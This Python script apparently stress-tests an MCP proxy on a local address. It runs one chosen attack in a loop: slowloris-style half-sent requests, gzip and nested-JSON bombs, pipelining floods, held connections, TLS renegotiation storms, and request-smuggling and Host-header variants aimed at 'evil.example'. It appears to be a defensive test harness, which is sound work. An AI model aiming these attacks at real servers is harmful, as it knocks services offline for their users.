"""What one caller can do to a proxy, a program of its own, so that its work is not its victims'.

    python attacks.py NAME --url http://127.0.0.1:8080/mcp --admin http://127.0.0.1:9090

It goes on until it is killed, and leaves as rudely as that.
"""

import argparse
import asyncio
import collections
import contextlib
import gzip
import itertools
import json
import random
import resource
import socket
import ssl
import struct
import uuid
from collections.abc import Awaitable, Callable
from typing import Any, Final, cast
from urllib.parse import urlsplit

import aiohttp

Message = dict[str, Any]

MODERN: Final = "2026-07-28"
LEGACY: Final = "2025-06-18"
META: Final = "io.modelcontextprotocol/"
BOTH: Final = "application/json, text/event-stream"
MIB: Final = 1024 * 1024
WORKERS: Final = 8
AGAIN_SECONDS: Final = 0.02
# Where strangers are who have nothing but their address to be told apart by from their victims, which are at
# 127.0.0.1: what is promised then is promised to other addresses.
ELSEWHERE: Final = "127.0.0.2"
# The port is chosen when it is known where the connection goes: otherwise those of one address run out.
IP_BIND_ADDRESS_NO_PORT: Final = 24


def socket_at(host: str) -> socket.socket:
    """One whose connection will come from this address."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    sock.bind((host, 0))
    return sock


class Attacker:
    """One caller with one credential, unless an attack makes up others. ``host`` is where it is."""

    def __init__(self, url: str, admin: str, http: aiohttp.ClientSession, host: str) -> None:
        self.url, self.admin, self.http, self.host = url, admin, http, host
        self.token = f"attacker-{uuid.uuid4().hex}"
        self._ids = itertools.count(1)

    def message(self, method: str, params: Message) -> Message:
        """A request."""
        return {"jsonrpc": "2.0", "id": next(self._ids), "method": method, "params": params}

    def call(self, tool: str, **arguments: object) -> Message:
        """A call of a tool."""
        return self.message("tools/call", {"name": tool, "arguments": arguments})

    def modern(self, method: str, capabilities: Message | None = None, **params: Any) -> Message:
        """A modern request."""
        meta = {
            f"{META}protocolVersion": MODERN,
            f"{META}clientCapabilities": {"elicitation": {}} if capabilities is None else capabilities,
            f"{META}clientInfo": {"name": "attacker", "version": "1"},
        }
        return self.message(method, {"_meta": meta, **params})

    def headers(self, message: object = None, session: str | None = None, **more: str) -> dict[str, str]:
        """What belongs to a message."""
        headers = {
            "Accept": BOTH,
            "Content-Type": "application/json",
            "Authorization": f"Bearer {self.token}",
        }
        if session is not None:
            headers["Mcp-Session-Id"] = session
        if isinstance(message, dict) and "_meta" in message.get("params", {}):
            headers |= {"MCP-Protocol-Version": MODERN, "Mcp-Method": message["method"]}
            if "name" in message["params"]:
                headers["Mcp-Name"] = message["params"]["name"]
        return headers | more

    async def post(self, message: object, session: str | None = None, **headers: str) -> bytes:
        """One POST and its whole answer."""
        body = message if isinstance(message, bytes) else json.dumps(message).encode()
        async with self.http.post(
            self.url,
            data=body,
            headers=self.headers(message, session, **headers),
            allow_redirects=False,
        ) as response:
            return await response.read()

    async def open(self, capabilities: Message | None = None) -> str | None:
        """A handshake; the id of the session, if there was one to be had."""
        params = {
            "protocolVersion": LEGACY,
            "capabilities": capabilities or {},
            "clientInfo": {"name": f"attacker {uuid.uuid4().hex}", "version": "1"},
        }
        message = self.message("initialize", params)
        async with self.http.post(self.url, json=message, headers=self.headers(message)) as response:
            await response.read()
            return response.headers.get("Mcp-Session-Id")

    def head(self, length: int, **more: str) -> bytes:
        """The head of a POST by hand."""
        parts = urlsplit(self.url)
        headers = self.headers(None, **more) | {"Host": parts.netloc, "Content-Length": str(length)}
        lines = [f"POST {parts.path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return "\r\n".join([*lines, "", ""]).encode()

    async def connect(self, url: str | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection."""
        return await self._connect(url or self.url)

    async def connect_tls(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection that has shaken hands, where there is TLS."""
        return await self._connect(self.url, UNCHECKED if self.url.startswith("https") else None)

    async def _connect(
        self, url: str, tls: ssl.SSLContext | None = None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        parts = urlsplit(url)
        sock = socket_at(self.host)
        try:
            await asyncio.get_running_loop().sock_connect(sock, (parts.hostname, parts.port))
            name = None if tls is None else parts.hostname
            return await asyncio.open_connection(sock=sock, limit=MIB, ssl=tls, server_hostname=name)
        except BaseException:
            sock.close()
            raise


async def leaving_calls(attacker: Attacker) -> None:
    """Long calls, each left at once."""
    await leave_behind(attacker, json.dumps(attacker.call("slow", seconds=2)).encode())


async def leaving_batches(attacker: Attacker) -> None:
    """Batches of long calls, left at once."""
    await leave_behind(attacker, json.dumps([attacker.call("slow", seconds=2) for _ in range(100)]).encode())


async def leave_behind(attacker: Attacker, body: bytes) -> None:
    """Send this, and leave."""
    _, writer = await attacker.connect()
    writer.write(attacker.head(len(body)) + body)
    await writer.drain()
    await asyncio.sleep(0.05)
    writer.transport.abort()


async def slow_readers(attacker: Attacker) -> None:
    """Large answers, of which a little is read, and then no more."""
    body = json.dumps(attacker.call("big", size=20 * MIB)).encode()
    reader, writer = await attacker.connect()
    writer.write(attacker.head(len(body)) + body)
    with contextlib.suppress(asyncio.TimeoutError):
        async with asyncio.timeout(5):
            await reader.readexactly(1000)
            await asyncio.sleep(1)
    writer.transport.abort()


async def capabilities(attacker: Attacker) -> None:
    """Capabilities as large as they may be, others each time, and larger ones."""
    fat: Message = {"experimental": {uuid.uuid4().hex: {"x": "x" * 60_000}}}
    await attacker.open(fat)
    await attacker.post(attacker.modern("tools/list", fat))
    await attacker.post(attacker.modern("tools/list", {"experimental": {"x": {"x": "x" * 3 * MIB}}}))


async def questions(attacker: Attacker) -> None:
    """Calls in which the server asks 20,000 questions."""
    await attacker.post(attacker.modern("tools/call", name="ask", arguments={"number": 20_000}))


async def parked_calls(attacker: Attacker) -> None:
    """Calls that wait for answers that never come."""
    await attacker.post(attacker.modern("tools/call", name="ask", arguments={"number": 1}))


async def made_up_credentials(attacker: Attacker) -> None:
    """Credentials that the server refuses, new ones each time, with and without a handshake."""
    attacker.token = f"made-up-{uuid.uuid4().hex}"
    await attacker.open()
    await attacker.post(attacker.call("increment"))
    await attacker.post(attacker.modern("tools/call", name="increment", arguments={}))


async def malformed_tokens(attacker: Attacker) -> None:
    """Credentials over which the server fails."""
    attacker.token = f"malformed-{random.randrange(10)}"
    await attacker.open()
    await attacker.post(attacker.call("increment"))


async def no_credentials(attacker: Attacker) -> None:
    """Calls without a credential, which the server sends to its login page."""
    await attacker.post(attacker.call("increment"), Authorization="")
    await attacker.post(attacker.modern("tools/call", name="increment", arguments={}), Authorization="")


async def large_heads(attacker: Attacker) -> None:
    """Heads as large as they may be, and larger."""
    for size in (15_000, 16_000, 100_000):
        more = {f"X-Fat-{number}": "x" * min(size, 8000) for number in range(max(1, size // 8000))}
        await attacker.post(attacker.call("increment"), **more)


async def unfinished_heads(attacker: Attacker) -> None:
    """Heads that go on and never end."""
    reader, writer = await attacker.connect()
    writer.write(attacker.head(10)[:-2])
    for number in range(60):
        writer.write(f"X-{number}: {'x' * 15_000}\r\n".encode())
    with contextlib.suppress(asyncio.TimeoutError):
        async with asyncio.timeout(3):
            await reader.read(1)
    writer.transport.abort()


async def unfinished_bodies(attacker: Attacker) -> None:
    """Bodies of 4 MiB but for their last byte."""
    reader, writer = await attacker.connect()
    writer.write(attacker.head(4 * MIB) + b" " * (4 * MIB - 1))
    with contextlib.suppress(asyncio.TimeoutError):
        async with asyncio.timeout(10):
            await reader.read(1)
    writer.transport.abort()


async def silent_connections(attacker: Attacker) -> None:
    """Connections that say nothing, as many as there may be."""
    _, writer = await attacker.connect()
    hold(writer)


async def silent_admin_connections(attacker: Attacker) -> None:
    """The same at the admin listener."""
    _, writer = await attacker.connect(attacker.admin)
    hold(writer)


held: collections.deque[asyncio.StreamWriter] = collections.deque()
ENDED: Final = (7, 8)  # states of TCP: closed, or closed by the other side


def has_ended(sock: socket.socket) -> bool:
    """Whether the other side has closed this connection."""
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] in ENDED


def hold(writer: asyncio.StreamWriter) -> None:
    """Keep a connection for as long as the proxy does.

    What that has ended is closed here, too: it would use up ports, of which the victims need some.
    """
    held.append(writer)
    for _ in range(min(len(held), 4)):
        oldest = held.popleft()
        sock = oldest.get_extra_info("socket")
        if sock is None or sock.fileno() < 0 or has_ended(sock):
            oldest.transport.abort()
        else:
            held.append(oldest)


async def unread_admin_pages(attacker: Attacker) -> None:
    """Pages of the admin listener, of which nothing is read, and requests whose bodies never come."""
    host = urlsplit(attacker.admin).netloc
    _, writer = await attacker.connect(attacker.admin)
    cast(asyncio.Transport, writer.transport).pause_reading()
    asked = [f"GET /metrics HTTP/1.1\r\nHost: {host}\r\nContent-Length: 9\r\n\r\n"]
    if random.random() < 0.8:
        pages = ("/sessions?limit=999999999", "/metrics", "/api/v1/events?limit=999999999", "/runbook")
        asked = [f"GET {page} HTTP/1.1\r\nHost: {host}\r\n\r\n" for page in pages] * 50
    writer.write("".join(asked).encode())
    hold(writer)


async def unknown_ids(attacker: Attacker) -> None:
    """DELETE and GET with ids that nobody knows."""
    for method in ("DELETE", "GET"):
        headers = attacker.headers(session=uuid.uuid4().hex)
        async with attacker.http.request(method, attacker.url, headers=headers):
            pass


async def listeners(attacker: Attacker) -> None:
    """Listeners to a thousand resources each, of which the server tells."""
    uris = [f"counter://{number}" for number in range(1000)]
    message = attacker.modern("subscriptions/listen", notifications={"resourceSubscriptions": uris})
    body = json.dumps(message).encode()
    reader, writer = await attacker.connect()
    routing = {"MCP-Protocol-Version": MODERN, "Mcp-Method": "subscriptions/listen"}
    writer.write(attacker.head(len(body), **routing) + body)
    await attacker.post(attacker.modern("tools/call", name="tell", arguments={"number": 1000}))
    with contextlib.suppress(asyncio.TimeoutError):
        async with asyncio.timeout(2):
            while await reader.read(MIB):
                pass
    writer.transport.abort()


async def unread_streams(attacker: Attacker) -> None:
    """GET streams that nobody reads, and a server that says much on them."""
    session = await attacker.open()
    if session is None:
        return
    _, writer = await attacker.connect()
    head = attacker.head(0, **{"Mcp-Session-Id": session, "MCP-Protocol-Version": LEGACY})
    cast(asyncio.Transport, writer.transport).pause_reading()
    writer.write(head.replace(b"POST", b"GET", 1))
    for _ in range(10):
        await attacker.post(attacker.call("tell", number=100, size=10_000), session)
    writer.transport.abort()


async def many_keys(attacker: Attacker) -> None:
    """4 MiB of keys in `_meta`, and elsewhere, and twice the same."""
    meta = ",".join(f'"a/{number}":1' for number in range(250_000))
    for params in (
        f'{{"name":"increment","arguments":{{}},"_meta":{{{meta}}}}}',
        f'{{"name":"increment","arguments":{{{meta}}}}}',
        f'{{{meta},"name":"increment","arguments":{{}}}}',
    ):
        body = f'{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{params}}}'
        await attacker.post(body.encode())


async def deep_json(attacker: Attacker) -> None:
    """4 MiB of brackets."""
    await attacker.post(b"[" * (4 * MIB - 100))
    await attacker.post(b'{"a":' * (MIB // 2))


async def gzip_bombs(attacker: Attacker) -> None:
    """A kilobyte that would be a hundred megabytes."""
    await attacker.post(BOMB, **{"Content-Encoding": "gzip"})


BOMB: Final = gzip.compress(bytes(100 * MIB))


async def spellings(attacker: Attacker) -> None:
    """The endpoint's path as a server may understand it, too."""
    origin = attacker.url.removesuffix("/mcp")
    for path in ("/mcp;x", "/MCP", "/mcp%20", "/x/..;/mcp", "//mcp", "/mcp/.", "/%6dcp"):
        message = attacker.call("slow", seconds=2)
        async with attacker.http.post(origin + path, json=message, headers=attacker.headers(message)):
            pass


async def flooding_server(attacker: Attacker) -> None:
    """Calls that the server answers with very many events of empty lines."""
    await attacker.post(attacker.call("flood"))


async def names(attacker: Attacker) -> None:
    """Methods, tools, clients, headers and paths of new names each time."""
    word = uuid.uuid4().hex
    await attacker.post(attacker.message(f"method/{word}", {}), **{f"X-{word}": word})
    await attacker.post(attacker.modern(f"method/{word}", name=word))
    await attacker.post(attacker.message("ping", {}), **{"MCP-Protocol-Version": word})
    async with attacker.http.request(word[:8].upper(), f"{attacker.url}/{word}", headers=attacker.headers()):
        pass


async def handshakes(attacker: Attacker) -> None:
    """Client sessions without end, none of which is used."""
    await attacker.open()


async def holding_streams(attacker: Attacker) -> None:
    """GET streams with made-up ids and credentials, on connections that stay."""
    attacker.token = f"made-up-{uuid.uuid4().hex}"
    _, writer = await attacker.connect()
    head = attacker.head(0, **{"Mcp-Session-Id": uuid.uuid4().hex})
    writer.write(head.replace(b"POST", b"GET", 1))
    hold(writer)


async def trailers(attacker: Attacker) -> None:
    """Bodies in chunks, with extensions and trailers without end, on connections that stay."""
    reader, writer = await attacker.connect()
    head = attacker.head(0).replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")
    body = json.dumps(attacker.call("increment")).encode()
    writer.write(head + b"%x;%b\r\n%b\r\n0\r\n" % (len(body), b"e" * 50_000, body))
    for number in range(120):
        writer.write(b"X-%d: %b\r\n" % (number, b"x" * 15_000))
    await writer.drain()
    writer.write(b"\r\n")
    hold(writer)
    await read_for(reader, 2)


async def fat_idle_heads(attacker: Attacker) -> None:
    """Requests with heads as large as they may be, on connections that stay."""
    reader, writer = await attacker.connect()
    head = attacker.head(0, **{f"X-{number}": "x" * 15_000 for number in range(4)})
    writer.write(head.replace(b"POST", b"DELETE", 1))
    hold(writer)
    await read_for(reader, 2)


async def pipelining(attacker: Attacker) -> None:
    """Thousands of requests on one connection, of whose answers nothing is read."""
    body = json.dumps(attacker.call("big", size=10_000)).encode()
    _, writer = await attacker.connect()
    cast(asyncio.Transport, writer.transport).pause_reading()
    with contextlib.suppress(asyncio.TimeoutError):
        async with asyncio.timeout(3):
            while True:
                writer.write((attacker.head(len(body)) + body) * 100)
                await writer.drain()
    writer.transport.abort()


async def unread_pages(attacker: Attacker) -> None:
    """Large pages beside the endpoint, of which nothing is read."""
    parts = urlsplit(attacker.url)
    _, writer = await attacker.connect()
    cast(asyncio.Transport, writer.transport).pause_reading()
    writer.write(f"GET /large HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode())
    hold(writer)


async def bodies_of_streams(attacker: Attacker) -> None:
    """GET streams with bodies of 4 MiB, which nobody reads, on connections that stay."""
    _, writer = await attacker.connect()
    head = attacker.head(4 * MIB, **{"Mcp-Session-Id": uuid.uuid4().hex})
    writer.write(head.replace(b"POST", b"GET", 1) + bytes(MIB))
    hold(writer)


async def hoarded_streams(attacker: Attacker) -> None:
    """An accepted caller with as many client sessions, GET streams and connections as it can have."""
    session = await attacker.open()
    if session is None:
        return
    reader, writer = await attacker.connect()
    head = attacker.head(0, **{"Mcp-Session-Id": session, "MCP-Protocol-Version": LEGACY})
    writer.write(head.replace(b"POST", b"GET", 1))
    hold(writer)
    await reader.read(1)


async def hoarded_listeners(attacker: Attacker) -> None:
    """The same with modern listeners."""
    body = json.dumps(
        attacker.modern("subscriptions/listen", notifications={"toolsListChanged": True})
    ).encode()
    reader, writer = await attacker.connect()
    routing = {"MCP-Protocol-Version": MODERN, "Mcp-Method": "subscriptions/listen"}
    writer.write(attacker.head(len(body), **routing) + body)
    hold(writer)
    await reader.read(1)


async def dozens_of_callers(attacker: Attacker) -> None:
    """Forty accepted callers, each with as many long calls as it can have."""
    attacker.token = f"one-of-dozens-{random.randrange(40)}"
    await attacker.post(attacker.call("slow", seconds=2))


async def broken_texts(attacker: Attacker) -> None:
    """4 MiB of halves of characters, and of arrays in arrays, in calls that the server repeats."""
    for text in (b'"' + b"\\ud800" * 600_000 + b'"', b"[" * 300 + b"[]," * 1_300_000 + b"1" + b"]" * 300):
        for place in (
            b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"what":%b}}}',
            b'{"jsonrpc":"2.0","id":1,"method":%b}',
            b'{"jsonrpc":"2.0","id":%b,"method":"ping"}',
        ):
            await attacker.post(place % text)


async def waiting_for_100(attacker: Attacker) -> None:
    """Clients that want to be asked for their bodies, and then send none."""
    reader, writer = await attacker.connect()
    writer.write(attacker.head(4 * MIB - 1, Expect="100-continue"))
    hold(writer)
    await read_for(reader, 1)


async def connections_that_break(attacker: Attacker) -> None:
    """Connections that are reset as soon as they stand, with and without a request."""
    for sent in (b"", attacker.head(10), attacker.head(2) + b"{}", b"\x00"):
        _, writer = await attacker.connect()
        writer.write(sent)
        sock = writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        writer.transport.abort()


async def slow_bodies_of_many(attacker: Attacker) -> None:
    """A body a byte at a time, from another made-up caller each time."""
    attacker.token = uuid.uuid4().hex
    _, writer = await attacker.connect()
    writer.write(attacker.head(1_000_000))
    hold(writer)
    for _ in range(20):
        writer.write(b" ")
        await asyncio.sleep(0.1)


async def odd_requests(attacker: Attacker) -> None:
    """What a server in front of ours may understand otherwise than we do."""
    body = json.dumps(attacker.call("increment")).encode()
    plain = attacker.head(len(body))
    length = b"Content-Length: %d" % len(body)
    for sent in (
        plain.replace(length, length + b"\r\nTransfer-Encoding: chunked") + body,
        plain.replace(length, length + b"\r\n" + length) + body,
        plain.replace(length, b"Content-Length: +%d" % len(body)) + body,
        plain.replace(length, b"Transfer-Encoding: chunked, chunked") + b"0\r\n\r\n",
        plain.replace(length, b"Transfer-Encoding: \x0bchunked") + b"0\r\n\r\n",
        plain.replace(length, b"Transfer-Encoding: chunked") + b"%x\n" % len(body) + body + b"\r\n0\r\n\r\n",
        plain.replace(length, b"Transfer-Encoding: chunked") + b"-1\r\n",
        plain.replace(length, b"Transfer-Encoding: chunked") + b"f" * 40 + b"\r\n",
        plain.replace(b"HTTP/1.1", b"HTTP/1.0") + body,
        plain.replace(b"HTTP/1.1", b"HTTP/2.0") + body,
        plain.replace(b"POST /mcp", b"POST http://evil.example/mcp") + body,
        plain.replace(b"POST /mcp", b"CONNECT evil.example:80") + body,
        plain.replace(b"Host: ", b"Host: evil.example\r\nHost: ") + body,
        plain.replace(b"Host: ", b"Host: evil.example\r\nX: ") + body,
        plain.replace(b"Authorization", b"Mcp-Session-Id: " + b"\xff" * 15_000 + b"\r\nAuthorization") + body,
        plain.replace(b"Authorization", b"Authorization: Bearer other\r\nAuthorization") + body,
        plain.replace(b"Authorization", b"X-Caf\xc3\xa9: \xf0\x9f\x98\x80\r\nAuthorization") + body,
        plain.replace(b"Authorization", b"Last-Event-ID: " + b"9" * 15_000 + b"\r\nAuthorization") + body,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00" * 100,
    ):
        reader, writer = await attacker.connect()
        writer.write(sent)
        await read_for(reader, 0.05)
        writer.transport.abort()


async def read_for(reader: asyncio.StreamReader, seconds: float) -> None:
    """Read what comes in this time."""
    with contextlib.suppress(asyncio.TimeoutError):
        async with asyncio.timeout(seconds):
            while await reader.read(MIB):
                pass


async def idle_connections(attacker: Attacker) -> None:
    """Connections that ask for something once, and stay."""
    reader, writer = await attacker.connect_tls()
    writer.write(attacker.head(0).replace(b"POST", b"OPTIONS", 1))
    hold(writer)
    await reader.read(1)


async def slow_handshakes(attacker: Attacker) -> None:
    """TLS that begins and does not go on."""
    _, writer = await attacker.connect()
    writer.write(HELLO)
    hold(writer)


async def rubbish(attacker: Attacker) -> None:
    """What is no TLS, on connections that stay, and on others that leave."""
    for sent in (b"POST /mcp HTTP/1.1\r\n\r\n", random.randbytes(100_000), b"\x16\x03\x01\xff\xff" + HELLO):
        _, writer = await attacker.connect()
        writer.write(sent)
        hold(writer)


async def handshakes_of_tls(attacker: Attacker) -> None:
    """Handshakes, one after the other, that nothing follows."""
    _, writer = await attacker.connect_tls()
    writer.transport.abort()


async def renegotiations(attacker: Attacker) -> None:
    """One connection that wants to shake hands again and again (TLS 1.2)."""
    parts = urlsplit(attacker.url)
    client = await asyncio.create_subprocess_exec(
        *("openssl", "s_client", "-connect", f"{parts.hostname}:{parts.port}", "-bind", f"{attacker.host}:0"),
        "-tls1_2",
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        assert client.stdin is not None
        async with asyncio.timeout(2):
            while client.returncode is None:
                client.stdin.write(b"R\n")
                await asyncio.sleep(AGAIN_SECONDS)
    finally:
        with contextlib.suppress(ProcessLookupError):
            client.kill()


UNCHECKED: Final = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
UNCHECKED.check_hostname = False
UNCHECKED.verify_mode = ssl.CERT_NONE


def say_hello() -> bytes:
    """The first thing that a client says in a handshake."""
    said = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        UNCHECKED.wrap_bio(ssl.MemoryBIO(), said).do_handshake()
    return said.read()


HELLO: Final = say_hello()


Attack = Callable[[Attacker], Awaitable[None]]
# How many of them at once, by callers whose requests are read. They are at their victims' very address: it is
# credentials that tell them apart.
BY_CALLERS: Final[dict[Attack, int]] = {
    leaving_calls: 20,
    leaving_batches: 8,
    slow_readers: 15,
    capabilities: 8,
    questions: 4,
    parked_calls: 16,
    made_up_credentials: 16,
    malformed_tokens: 8,
    no_credentials: 8,
    large_heads: 8,
    unknown_ids: 8,
    listeners: 40,
    unread_streams: 16,
    many_keys: 4,
    deep_json: 4,
    gzip_bombs: 4,
    spellings: 8,
    flooding_server: 2,
    names: 8,
    handshakes: 8,
    pipelining: 8,
    hoarded_streams: 20,
    hoarded_listeners: 20,
    dozens_of_callers: 200,
    broken_texts: 2,
}
# By strangers, at an address of their own: of their requests too little comes, or they are nobody's.
BY_STRANGERS: Final[dict[Attack, int]] = {
    unfinished_heads: 200,
    unfinished_bodies: 100,
    silent_connections: 20,
    silent_admin_connections: 20,
    unread_admin_pages: 20,
    holding_streams: 20,
    idle_connections: 20,
    trailers: 40,
    fat_idle_heads: 40,
    unread_pages: 20,
    bodies_of_streams: 20,
    waiting_for_100: 20,
    connections_that_break: 20,
    slow_bodies_of_many: 40,
    odd_requests: 8,
}
ATTACKS: Final = {**BY_CALLERS, **BY_STRANGERS}
# By strangers at a listener with TLS.
TLS_ATTACKS: Final[dict[Attack, int]] = {
    silent_connections: 20,
    slow_handshakes: 20,
    rubbish: 8,
    handshakes_of_tls: 4,
    renegotiations: 4,
    idle_connections: 20,
}
BY_NAME: Final = {attack.__name__: attack for attack in {**ATTACKS, **TLS_ATTACKS}}


async def attack(name: str, url: str, admin: str) -> None:
    """Do this until somebody ends it."""
    chosen = BY_NAME[name]
    host = "127.0.0.1" if chosen in BY_CALLERS else ELSEWHERE
    connector = aiohttp.TCPConnector(limit=0, ssl=False, socket_factory=lambda _: socket_at(host))
    timeout = aiohttp.ClientTimeout(total=30)
    jar = aiohttp.DummyCookieJar()
    async with aiohttp.ClientSession(connector=connector, timeout=timeout, cookie_jar=jar) as http:

        async def again_and_again() -> None:
            attacker = Attacker(url, admin, http, host)
            attacker.token = token
            while True:
                try:
                    await chosen(attacker)
                except (aiohttp.ClientError, OSError, TimeoutError, asyncio.IncompleteReadError):
                    await asyncio.sleep(AGAIN_SECONDS)

        token = f"attacker-{uuid.uuid4().hex}"
        print("begun", flush=True)
        async with asyncio.TaskGroup() as tasks:
            for _ in range((TLS_ATTACKS if url.startswith("https") else ATTACKS)[chosen]):
                tasks.create_task(again_and_again())


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=BY_NAME)
    parser.add_argument("--url", required=True)
    parser.add_argument("--admin", required=True)
    arguments = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(attack(arguments.name, arguments.url, arguments.admin))


if __name__ == "__main__":
    main()
